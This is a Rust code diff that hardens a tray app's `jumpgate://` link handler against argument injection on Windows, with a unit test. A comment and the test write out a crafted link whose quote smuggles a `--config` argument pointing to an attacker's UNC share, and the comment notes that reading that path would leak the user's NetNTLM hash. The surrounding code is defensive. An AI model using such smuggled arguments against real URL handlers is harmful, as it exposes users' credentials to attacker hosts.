@@ -33,6 +33,9 @@ pub struct AppCtx {
 pub enum StartError {
     #[error("{0}")]
     Usage(String),
+    /// A `jumpgate://` link that came with other arguments ([`link_alone`]).
+    #[error("{0}")]
+    Link(String),
     #[error(transparent)]
     Config(#[from] config::ConfigError),
     #[error(transparent)]
@@ -53,11 +56,20 @@ pub struct Options {
     pub config: Option<PathBuf>,
     /// A `jumpgate://` link to open: checked when it is opened (prefilled, never submitted).
     pub link: Option<String>,
+    /// A link came with other arguments: none of them was read, and the popover says so.
+    pub refused_link: bool,
 }
 
 /// Reads `--demo` and `--config PATH`; anything else is an error that says what is accepted.
 pub fn parse_args(args: impl IntoIterator<Item = String>) -> Result<Options, StartError> {
     let usage = |m: &str| StartError::Usage(m.to_string());
+    let args: Vec<String> = args.into_iter().collect();
+    if let Some(link) = link_alone(&args)? {
+        return Ok(Options {
+            link: Some(link),
+            ..Options::default()
+        });
+    }
     let mut options = Options::default();
     let mut args = args.into_iter();
     while let Some(arg) = args.next() {
@@ -80,6 +92,37 @@ pub fn parse_args(args: impl IntoIterator<Item = String>) -> Result<Options, Sta
         return Err(usage("--demo runs its own simulator: leave out --config"));
     }
     Ok(options)
+}
+
+/// Whether `arg` is a `jumpgate://` link (the scheme in any case, as URLs allow).
+fn is_link(arg: &str) -> bool {
+    arg.get(..LINK_PREFIX.len())
+        .is_some_and(|p| p.eq_ignore_ascii_case(LINK_PREFIX))
+}
+
+const LINK_PREFIX: &str = "jumpgate://";
+
+/// A launch that carries a `jumpgate://` link carries nothing else: the link, or none.
+/// Windows starts the app for a link as `"exe" "%1"`, so a link with a quote in it can add
+/// arguments of its own (`jumpgate://connect?vm=a" --config "\\host\share\c.toml`): reading
+/// such a path would hand the user's NetNTLM hash to the host, and its configuration would
+/// take effect. Anything beside a link is therefore refused, link and all, before any of it
+/// is read.
+pub fn link_alone(args: &[String]) -> Result<Option<String>, StartError> {
+    if !args.iter().any(|a| is_link(a)) {
+        return Ok(None);
+    }
+    match args {
+        [link] if link.starts_with(LINK_PREFIX) => Ok(Some(link.clone())),
+        [link] => Err(StartError::Link(format!(
+            "a link must start with {LINK_PREFIX} in lower case: {}",
+            jumpgate_core::text::log(link)
+        ))),
+        _ => Err(StartError::Link(format!(
+            "a jumpgate:// link is opened on its own, and this launch carried {} arguments: nothing was read or opened. If a link in a web page or an email started this, its text was crafted to add arguments; ask whoever sent it for a new link",
+            args.len()
+        ))),
+    }
 }
 
 /// WebKitGTK settings for a small popover, unless the user chose otherwise: no OpenGL in the
@@ -120,6 +163,15 @@ pub fn main() -> ExitCode {
     }
     let options = match parse_args(std::env::args().skip(1)) {
         Ok(o) => o,
+        // The app starts as if with no arguments (a running one takes the launch over), and
+        // says the link was refused: a person who clicked it sees why nothing opened.
+        Err(StartError::Link(why)) => {
+            tracing::warn!("{}", jumpgate_core::text::log(&why));
+            Options {
+                refused_link: true,
+                ..Options::default()
+            }
+        }
         Err(e) => {
             eprintln!("jumpgate-tray: {e}");
             return ExitCode::from(2);
@@ -277,6 +329,9 @@ pub fn build(
             if let Some(link) = &options.link {
                 tray::open_link(app.handle(), link);
             }
+            if options.refused_link {
+                tray::refuse_link(app.handle());
+            }
             Ok(())
         })
 }
@@ -327,15 +382,20 @@ fn handler<R: tauri::Runtime>() -> impl Fn(tauri::ipc::Invoke<R>) -> bool + Send
 
 /// Another launch (a second click, or the desktop opening a jumpgate:// link): its link is
 /// checked and opens the Connect form; without one, the popover comes forward.
+/// A link that came with other arguments is refused as [`link_alone`] says, and the popover
+/// says so.
 fn second_launch(app: &tauri::AppHandle, args: impl Iterator<Item = String>) {
-    let mut opened = false;
-    for arg in args.filter(|a| a.starts_with("jumpgate://")) {
-        opened = true;
-        tray::open_link(app, &arg);
-    }
-    if !opened {
-        if let Err(e) = tray::show_popover(app, tray::Intent::view("open")) {
-            tracing::warn!("cannot open the popover: {e}");
+    let args: Vec<String> = args.collect();
+    match link_alone(&args) {
+        Ok(Some(link)) => tray::open_link(app, &link),
+        Ok(None) => {
+            if let Err(e) = tray::show_popover(app, tray::Intent::view("open")) {
+                tracing::warn!("cannot open the popover: {e}");
+            }
+        }
+        Err(e) => {
+            tracing::warn!("{}", jumpgate_core::text::log(&e.to_string()));
+            tray::refuse_link(app);
         }
     }
 }
@@ -374,6 +434,37 @@ mod tests {
             .expect_err("unknown")
             .to_string()
             .contains("--config PATH or a jumpgate:// link"));
+    }
+
+    #[test]
+    fn a_link_comes_alone_or_is_refused_with_what_came_with_it() {
+        // Windows runs `"exe" "%1"`: a quote in the link splits it into arguments.
+        let crafted = [
+            "jumpgate://connect?vm=a",
+            "--config",
+            r"\\attacker\s\c.toml",
+        ];
+        let refused = args(&crafted).expect_err("a link with --config");
+        assert!(
+            refused.to_string().contains("opened on its own"),
+            "{refused}"
+        );
+        // Whatever the order, and with --demo too.
+        for a in [
+            &["--config", "c.toml", "jumpgate://connect?vm=a"][..],
+            &["jumpgate://connect?vm=a", "--demo"],
+            &["jumpgate://connect?vm=a", "jumpgate://connect?vm=b"],
+            &["JUMPGATE://connect?vm=a", "--config", "c.toml"],
+        ] {
+            assert!(args(a).is_err(), "{a:?}");
+        }
+        let upper = args(&["JUMPGATE://connect?vm=a"]).expect_err("upper case");
+        assert!(upper.to_string().contains("lower case"), "{upper}");
+        assert_eq!(
+            link_alone(&["jumpgate://connect?vm=a".to_string()]).ok(),
+            Some(Some("jumpgate://connect?vm=a".to_string()))
+        );
+        assert_eq!(link_alone(&["--demo".to_string()]).ok(), Some(None));
     }
 }
 
@@ -416,6 +507,7 @@ mod ipc_tests {
                 demo: false,
                 config: Some(config),
                 link: None,
+                refused_link: false,
             },
             None,
         ))
@@ -934,6 +1026,7 @@ mod ipc_tests {
                 demo: false,
                 config: Some(config),
                 link: None,
+                refused_link: false,
             },
             None,
         ))
